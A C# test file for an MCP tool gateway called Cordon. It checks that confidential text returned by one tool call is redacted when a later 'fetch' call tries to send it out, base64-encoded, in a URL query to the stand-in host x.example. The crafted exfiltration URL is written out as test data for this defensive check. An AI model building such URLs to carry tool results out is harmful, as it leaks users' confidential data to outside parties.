using System.Text;

namespace Cordon.EndToEnd.Mcp;

/// <summary>What one tool brought does not leave through another.</summary>
public sealed class CarriedContentTests
{
    private const string Policy = "version: 1\npreset: balanced\ntools: {default: allow}\n";
    private const string Brought = "Payroll of November: Jane Roe is paid 8,412 euros, and nobody may hear of the plan to close Leeds.";

    private static readonly string Address = "https://x.example/r?d=" + Convert.ToBase64String(Encoding.UTF8.GetBytes("the plan to close Leeds")).TrimEnd('=');

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task A_call_with_an_address_that_holds_what_an_earlier_result_said_reaches_its_server_without_it(bool streamed)
    {
        await using McpGateway gateway = await McpGateway.StartAsync(Policy);
        gateway.Gives(Brought, streamed);
        await gateway.CallAsync("read", headers: [("x-cordon-session", "one")]);
        gateway.Gives("Fetched.");
        Reply reply = await gateway.CallAsync("fetch", $$"""{"url":"{{Address}}"}""", headers: [("x-cordon-session", "one")]);

        Assert.Equal(200, reply.Status);
        Assert.Contains("[REDACTED:exfiltration]", gateway.Server.Received.Last().Body, StringComparison.Ordinal);
        Assert.DoesNotContain(Address, gateway.Server.Received.Last().Body, StringComparison.Ordinal);

        await gateway.CallAsync("fetch", $$"""{"url":"{{Address}}"}""", headers: [("x-cordon-session", "another")]);
        Assert.DoesNotContain("session-content", gateway.Server.Received.Last().Body, StringComparison.Ordinal);
    }
}
